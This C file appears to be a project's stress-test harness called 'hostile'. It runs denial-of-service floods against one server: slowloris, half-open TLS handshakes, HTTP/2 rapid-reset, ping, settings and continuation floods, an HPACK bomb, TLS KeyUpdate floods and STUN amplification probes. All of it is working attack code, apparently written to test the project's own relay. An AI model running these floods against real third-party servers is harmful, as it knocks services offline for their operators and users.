/*
 * One attack on one server, as hard as one core can:
 *   hostile ADDRESS:PORT KIND FIRST
 *
 * until SIGTERM; then it says what it has done. Sources are FIRST and those after it. Over TLS, as
 * the kinds but the last want:
 *
 *   loris         connections that say a byte a second of what they should begin with
 *   handshakes    a ClientHello each, and never the rest; the oldest goes when there are too many
 *   auth          the relay's upgrade, and a login whose token is wrong
 *   reset         HTTP/2: calls that are reset at once
 *   ping settings continuation    HTTP/2: frames of the kind without an end
 *   hpack         HTTP/2: header blocks of 16 KB that stand for 60 MB
 *   keyupdate     HTTP/2, and then TLS that asks for new keys without an end
 *   stun          binding requests; ends at once where an answer is larger than twice the question.
 *                 stun-N: no more than so many thousand a second
 *
 * Who is closed comes again. One thread.
 */

#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#include "libcommon/base/alloc.h"
#include "libcommon/base/buf.h"
#include "libcommon/base/clock.h"
#include "libcommon/crypto/token.h"
#include "libcommon/net/ws_client.h"
#include "services/relay/wire/message.h"
#include "tests/bench/lib/report.h"

#define SOURCES 200
#define EVENTS 256
#define FLOODERS 32
#define SLOW_ONES 2000
#define HALF_OPEN 12000
#define BURST ((size_t)16 * 1024)
#define REKEYS 500 /* of a burst */
#define REKEY 27   /* bytes each */
#define SAY_MS 1000
#define TICK_MS 20
#define DATAGRAMS 64
#define QUESTION 20

static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

struct load;

struct kind {
    const char *name;
    unsigned connections;
    const char *protocol; /* ALPN; NULL: none is offered */
    bool slow;            /* of the greeting a byte a second */
    bool half;            /* no TLS, but the first flight of it */
    void (*greet)(struct load *l, struct rk_buf *out);
    /* More of the same for ever; `stream` is the connection's own. NULL: silence. */
    void (*more)(uint32_t *stream, struct rk_buf *out);
    bool rekey; /* after the greeting, new keys for ever */
};

enum phase {
    PHASE_CONNECT,
    PHASE_TLS,
    PHASE_TALK,
};

struct foe {
    int fd;
    SSL *ssl;
    enum phase phase;
    uint32_t stream;
    struct rk_buf out; /* what it has still to say */
    uint64_t said_ms;
};

struct load {
    const struct kind *kind;
    struct sockaddr_in server;
    struct in_addr first;
    SSL_CTX *tls;
    int epfd;
    struct foe *foe;
    unsigned oldest;
    uint64_t opened, tls_done, bytes;
    struct rk_buf hello; /* a ClientHello */
};

static volatile sig_atomic_t over;

static void on_term(int signum)
{
    (void)signum;
    over = 1;
}

/* --- what they say --- */

static void frame(struct rk_buf *out, size_t n, uint8_t type, uint8_t flags, uint32_t stream)
{
    uint8_t head[9] = { (uint8_t)(n >> 16),
                        (uint8_t)(n >> 8),
                        (uint8_t)n,
                        type,
                        flags,
                        (uint8_t)(stream >> 24),
                        (uint8_t)(stream >> 16),
                        (uint8_t)(stream >> 8),
                        (uint8_t)stream };

    rk_buf_put(out, head, sizeof(head));
}

/* A call's header: everything literal, or of the static table. */
static const uint8_t call[] = "\x83\x87\x04\x25/management.ManagementService/isHealthy\x01\x01x"
                              "\x0f\x10\x10"
                              "application/grpc\x00\x02te\x08trailers";
#define CALL (sizeof(call) - 1)

static void greet_h2(struct load *l, struct rk_buf *out)
{
    (void)l;
    rk_buf_put(out, preface, sizeof(preface) - 1);
    frame(out, 0, 4, 0, 0);
}

static void greet_h2_begun(struct load *l, struct rk_buf *out)
{
    greet_h2(l, out);
    frame(out, CALL, 1, 0, 1); /* a header that goes on */
    rk_buf_put(out, call, CALL);
}

static void greet_slow(struct load *l, struct rk_buf *out)
{
    (void)l;
    rk_buf_put(out, preface, sizeof(preface) - 1);
}

static void greet_relay_slow(struct load *l, struct rk_buf *out)
{
    char request[RK_WS_REQUEST_MAX];

    (void)l;
    rk_buf_put(out, request, rk_ws_request("/relay", "relay", request));
}

static void greet_auth(struct load *l, struct rk_buf *out)
{
    uint8_t token[RK_RELAY_TOKEN_MAX], clear[RELAY_MAX_AUTH], masked[RELAY_MAX_AUTH + 8];
    struct rk_relay_key key;
    struct relay_id id = { .b = "sha-" };
    size_t n;

    greet_relay_slow(l, out);
    rk_relay_key_init(&key, RK_STR("another secret"));
    n = rk_relay_token_binary(&key, rk_wall_s() + 3600, token);
    n = relay_auth_write(&id, rk_strn(token, n), clear);
    n = rk_ws_masked(clear, n, masked);
    rk_buf_put(out, masked, n);
}

static void greet_hello(struct load *l, struct rk_buf *out)
{
    rk_buf_put(out, l->hello.p, l->hello.n);
}

static void more_reset(uint32_t *stream, struct rk_buf *out)
{
    static const uint8_t cancel[4] = { 0, 0, 0, 8 };

    *stream += 2;
    frame(out, CALL, 1, 4, *stream);
    rk_buf_put(out, call, CALL);
    frame(out, sizeof(cancel), 3, 0, *stream);
    rk_buf_put(out, cancel, sizeof(cancel));
}

static void more_ping(uint32_t *stream, struct rk_buf *out)
{
    (void)stream;
    frame(out, 8, 6, 0, 0);
    rk_buf_put(out, "rookery!", 8);
}

static void more_settings(uint32_t *stream, struct rk_buf *out)
{
    static const uint8_t window[6] = { 0, 4, 0, 1, 0, 0 };

    (void)stream;
    frame(out, sizeof(window), 4, 0, 0);
    rk_buf_put(out, window, sizeof(window));
}

static void more_continuation(uint32_t *stream, struct rk_buf *out)
{
    static const uint8_t field[] = "\x00\x01x\x01y";

    (void)stream;
    frame(out, sizeof(field) - 1, 9, 0, 1);
    rk_buf_put(out, field, sizeof(field) - 1);
}

/* A field of 3.8 KB is put into the table once, and named 12,000 times by one byte. */
static void more_hpack(uint32_t *stream, struct rk_buf *out)
{
    static const uint8_t insert[] = { 0x40, 1, 'x', 0x7f, 0xd9, 0x1c };
    static uint8_t value[3800], name[12000];
    size_t n = sizeof(insert) + sizeof(value) + sizeof(name);

    memset(value, 'v', sizeof(value));
    memset(name, 0xbe, sizeof(name));
    *stream += 2;
    frame(out, n, 1, 4, *stream);
    rk_buf_put(out, insert, sizeof(insert));
    rk_buf_put(out, value, sizeof(value));
    rk_buf_put(out, name, sizeof(name));
}

static const struct kind kinds[] = {
    { "loris", SLOW_ONES, "\x02h2", true, false, greet_slow, NULL, false },
    { "loris-relay", SLOW_ONES, NULL, true, false, greet_relay_slow, NULL, false },
    { "handshakes", HALF_OPEN, NULL, false, true, greet_hello, NULL, false },
    { "auth", FLOODERS, NULL, false, false, greet_auth, NULL, false },
    { "reset", FLOODERS, "\x02h2", false, false, greet_h2, more_reset, false },
    { "ping", FLOODERS, "\x02h2", false, false, greet_h2, more_ping, false },
    { "settings", FLOODERS, "\x02h2", false, false, greet_h2, more_settings, false },
    { "continuation", FLOODERS, "\x02h2", false, false, greet_h2_begun, more_continuation, false },
    { "hpack", FLOODERS, "\x02h2", false, false, greet_h2, more_hpack, false },
    { "keyupdate", FLOODERS, "\x02h2", false, false, greet_h2, NULL, true },
};

/* --- connections --- */

static struct sockaddr_in source(const struct load *l, uint64_t i)
{
    return (struct sockaddr_in){ .sin_family = AF_INET,
                                 .sin_addr.s_addr =
                                     htonl(ntohl(l->first.s_addr) + (uint32_t)(i % SOURCES)) };
}

static void foe_close(struct foe *f)
{
    /* A reset: the port is free at once. */
    struct linger now = { .l_onoff = 1 };

    SSL_free(f->ssl);
    f->ssl = NULL;
    rk_buf_done(&f->out);
    if (f->fd < 0)
        return;
    (void)setsockopt(f->fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
    (void)close(f->fd);
    f->fd = -1;
}

static void foe_open(struct load *l, struct foe *f)
{
    struct sockaddr_in self = source(l, l->opened);
    struct epoll_event ev = { .events = EPOLLIN | EPOLLOUT, .data.ptr = f };
    int one = 1;

    f->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (f->fd < 0)
        bench_die("socket: %s", strerror(errno));
    (void)setsockopt(f->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
    if (bind(f->fd, (const struct sockaddr *)&self, sizeof(self)) < 0)
        bench_die("bind: %s", strerror(errno));
    if (connect(f->fd, (const struct sockaddr *)&l->server, sizeof(l->server)) < 0 &&
        errno != EINPROGRESS) {
        foe_close(f);
        return; /* the next tick tries again */
    }
    f->phase = PHASE_CONNECT;
    f->stream = UINT32_MAX;
    rk_buf_init(&f->out, SIZE_MAX);
    l->opened++;
    if (epoll_ctl(l->epfd, EPOLL_CTL_ADD, f->fd, &ev) < 0)
        bench_die("epoll: %s", strerror(errno));
}

static void want(struct load *l, struct foe *f, uint32_t events)
{
    struct epoll_event ev = { .events = events, .data.ptr = f };

    (void)epoll_ctl(l->epfd, EPOLL_CTL_MOD, f->fd, &ev);
}

static void connected(struct load *l, struct foe *f)
{
    const char *alpn = l->kind->protocol;

    f->phase = PHASE_TALK;
    l->kind->greet(l, &f->out);
    if (l->kind->half)
        return;
    f->phase = PHASE_TLS;
    f->ssl = SSL_new(l->tls);
    if (!f->ssl || SSL_set_fd(f->ssl, f->fd) != 1)
        bench_die("no memory");
    if (alpn)
        (void)SSL_set_alpn_protos(f->ssl, (const uint8_t *)alpn, (unsigned)strlen(alpn));
}

/* False: the connection has ended. */
static bool shake(struct load *l, struct foe *f)
{
    int r, e;

    ERR_clear_error();
    r = SSL_connect(f->ssl);
    if (r == 1) {
        f->phase = PHASE_TALK;
        l->tls_done++;
        want(l, f, EPOLLIN | EPOLLOUT);
        return true;
    }
    e = SSL_get_error(f->ssl, r);
    if (e == SSL_ERROR_WANT_READ)
        want(l, f, EPOLLIN);
    return e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE;
}

/* Bytes, 0 when there is no room now, -1 at the end. */
static ssize_t say(struct foe *f, size_t max)
{
    size_t n = f->out.n < max ? f->out.n : max;
    ssize_t r;

    if (!f->ssl) {
        r = send(f->fd, f->out.p, n, MSG_NOSIGNAL);
        return r >= 0 ? r : errno == EAGAIN ? 0 : -1;
    }
    ERR_clear_error();
    r = SSL_write(f->ssl, f->out.p, (int)n);
    if (r > 0)
        return r;
    return SSL_get_error(f->ssl, (int)r) == SSL_ERROR_WANT_WRITE ? 0 : -1;
}

static bool rekey(struct load *l, struct foe *f)
{
    for (unsigned i = 0; i < REKEYS; i++) {
        int r;

        ERR_clear_error();
        (void)SSL_key_update(f->ssl, SSL_KEY_UPDATE_NOT_REQUESTED); /* unless one waits for room */
        r = SSL_do_handshake(f->ssl);
        if (r != 1)
            return SSL_get_error(f->ssl, r) == SSL_ERROR_WANT_WRITE;
        l->bytes += REKEY;
    }
    return true;
}

/* One burst a turn, so that all take part. */
static bool talk(struct load *l, struct foe *f)
{
    bool more = l->kind->more && f->phase == PHASE_TALK;
    ssize_t n;

    if (l->kind->rekey && f->out.n == 0)
        return rekey(l, f);
    while (more && f->out.n < BURST)
        l->kind->more(&f->stream, &f->out);
    if (f->out.n == 0 || l->kind->slow) {
        want(l, f, EPOLLIN);
        return true;
    }
    n = say(f, f->out.n);
    if (n < 0)
        return false;
    l->bytes += (uint64_t)n;
    rk_buf_consume(&f->out, (size_t)n);
    if (f->out.n == 0 && !more && !l->kind->rekey)
        want(l, f, EPOLLIN);
    return true;
}

static bool listen_to(struct foe *f)
{
    char bytes[BURST];
    ssize_t n;

    if (!f->ssl) {
        n = recv(f->fd, bytes, sizeof(bytes), 0);
        return n > 0 || (n < 0 && errno == EAGAIN);
    }
    ERR_clear_error();
    n = SSL_read(f->ssl, bytes, sizeof(bytes));
    return n > 0 || SSL_get_error(f->ssl, (int)n) == SSL_ERROR_WANT_READ;
}

static bool on_ready(struct load *l, struct foe *f, uint32_t events)
{
    if (events & (EPOLLERR | EPOLLHUP))
        return false;
    if (f->phase == PHASE_CONNECT)
        connected(l, f);
    if (f->phase == PHASE_TLS && !shake(l, f))
        return false;
    if (f->phase != PHASE_TALK)
        return true;
    if (events & EPOLLIN && !listen_to(f))
        return false;
    return !(events & EPOLLOUT) || talk(l, f);
}

/* Those that were closed come again, the slow ones say their next byte, and where they are to be
 * half open for ever, the oldest makes room. */
static void tick(struct load *l)
{
    uint64_t now = rk_mono_ms();
    unsigned fresh = l->kind->connections > FLOODERS ? l->kind->connections / 10 : FLOODERS;

    for (unsigned i = 0; i < l->kind->connections; i++) {
        struct foe *f = &l->foe[i];

        if (f->fd < 0 && fresh > 0) {
            foe_open(l, f);
            fresh--;
        }
        if (!l->kind->slow || f->fd < 0 || f->phase != PHASE_TALK || now - f->said_ms < SAY_MS)
            continue;
        f->said_ms = now;
        if (f->out.n > 0 && say(f, 1) == 1)
            rk_buf_consume(&f->out, 1);
    }
    for (; l->kind->half && fresh > 0; fresh--) {
        struct foe *f = &l->foe[l->oldest++ % l->kind->connections];

        foe_close(f);
        foe_open(l, f);
    }
}

static void make_hello(struct load *l)
{
    SSL *ssl = SSL_new(l->tls);
    BIO *out = BIO_new(BIO_s_mem());
    char *p;
    long n;

    SSL_set_bio(ssl, BIO_new(BIO_s_mem()), out);
    (void)SSL_set_alpn_protos(ssl, (const uint8_t *)"\x02h2", 3);
    (void)SSL_connect(ssl);
    n = BIO_get_mem_data(out, &p);
    rk_buf_init(&l->hello, SIZE_MAX);
    rk_buf_put(&l->hello, p, (size_t)n);
    SSL_free(ssl);
}

static void attack(struct load *l)
{
    struct epoll_event ev[EVENTS];
    uint64_t ticked = 0;

    l->tls = SSL_CTX_new(TLS_client_method());
    l->epfd = epoll_create1(EPOLL_CLOEXEC);
    l->foe = rk_new_array(struct foe, l->kind->connections);
    for (unsigned i = 0; i < l->kind->connections; i++)
        l->foe[i].fd = -1;
    make_hello(l);
    while (!over) {
        int n = epoll_wait(l->epfd, ev, EVENTS, TICK_MS);

        for (int i = 0; i < n; i++)
            if (!on_ready(l, ev[i].data.ptr, ev[i].events))
                foe_close(ev[i].data.ptr);
        if (rk_mono_ms() - ticked >= TICK_MS) {
            ticked = rk_mono_ms();
            tick(l);
        }
    }
}

/* --- STUN --- */

struct datagrams {
    uint8_t bytes[DATAGRAMS][512];
    struct iovec iov[DATAGRAMS];
    struct mmsghdr msg[DATAGRAMS];
};

static void datagrams_init(struct datagrams *d, size_t n)
{
    for (unsigned i = 0; i < DATAGRAMS; i++) {
        d->iov[i] = (struct iovec){ d->bytes[i], n };
        d->msg[i].msg_hdr = (struct msghdr){ .msg_iov = &d->iov[i], .msg_iovlen = 1 };
    }
}

static void sleep_until(uint64_t mono_ns)
{
    struct timespec t = { (time_t)(mono_ns / 1000000000), (long)(mono_ns % 1000000000) };

    (void)clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL);
}

/* per_s: 0 for as many as leave. */
static void attack_stun(struct load *l, uint64_t per_s)
{
    static const uint8_t magic[4] = { 0x21, 0x12, 0xa4, 0x42 };
    static struct datagrams out, in;
    uint64_t from = rk_mono_ns();
    int fd[SOURCES];

    datagrams_init(&out, QUESTION);
    datagrams_init(&in, sizeof(in.bytes[0]));
    for (unsigned i = 0; i < DATAGRAMS; i++) {
        out.bytes[i][1] = 1;
        memcpy(out.bytes[i] + 4, magic, sizeof(magic));
    }
    for (unsigned i = 0; i < SOURCES; i++) {
        struct sockaddr_in self = source(l, i);

        fd[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        if (bind(fd[i], (const struct sockaddr *)&self, sizeof(self)) < 0 ||
            connect(fd[i], (const struct sockaddr *)&l->server, sizeof(l->server)) < 0)
            bench_die("UDP socket: %s", strerror(errno));
    }
    for (uint64_t turn = 0; !over; turn++) {
        int at = fd[turn % SOURCES], n;

        if (per_s > 0)
            sleep_until(from + turn * DATAGRAMS * 1000000000 / per_s);
        n = sendmmsg(at, out.msg, DATAGRAMS, 0);
        l->opened += n > 0 ? (uint64_t)n : 0;
        n = recvmmsg(at, in.msg, DATAGRAMS, MSG_DONTWAIT, NULL);
        for (int i = 0; i < n; i++)
            if (in.msg[i].msg_len > 2 * QUESTION)
                bench_die("an answer of %u bytes to a question of %d", in.msg[i].msg_len, QUESTION);
        l->tls_done += n > 0 ? (uint64_t)n : 0;
    }
}

int main(int argc, char **argv)
{
    static struct load l;
    double seconds;
    uint64_t from, stun_per_s = 0;
    char *end = NULL;
    bool stun;

    if (argc != 4 || inet_pton(AF_INET, argv[3], &l.first) != 1)
        bench_die("usage: hostile ADDRESS:PORT KIND FIRST");
    l.server = bench_address(argv[1]);
    if (strncmp(argv[2], "stun-", 5) == 0)
        stun_per_s = 1000 * strtoull(argv[2] + 5, &end, 10);
    stun = strcmp(argv[2], "stun") == 0 || (stun_per_s > 0 && *end == '\0');
    for (unsigned i = 0; i < RK_COUNT(kinds); i++)
        if (strcmp(argv[2], kinds[i].name) == 0)
            l.kind = &kinds[i];
    if (!l.kind && !stun)
        bench_die("%s: no such attack", argv[2]);
    (void)signal(SIGTERM, on_term);
    (void)signal(SIGPIPE, SIG_IGN);
    from = rk_mono_ns();
    if (stun)
        attack_stun(&l, stun_per_s);
    else
        attack(&l);
    seconds = (double)(rk_mono_ns() - from) / 1e9;
    if (l.opened == 0)
        bench_die("%s: nothing was done", argv[2]);
    bench_value("opened", (double)l.opened);
    bench_value("opened_per_s", (double)l.opened / seconds);
    bench_value(stun ? "answered_per_s" : "tls_per_s", (double)l.tls_done / seconds);
    bench_value("mb_per_s", (double)l.bytes / 1e6 / seconds);
    return 0;
}
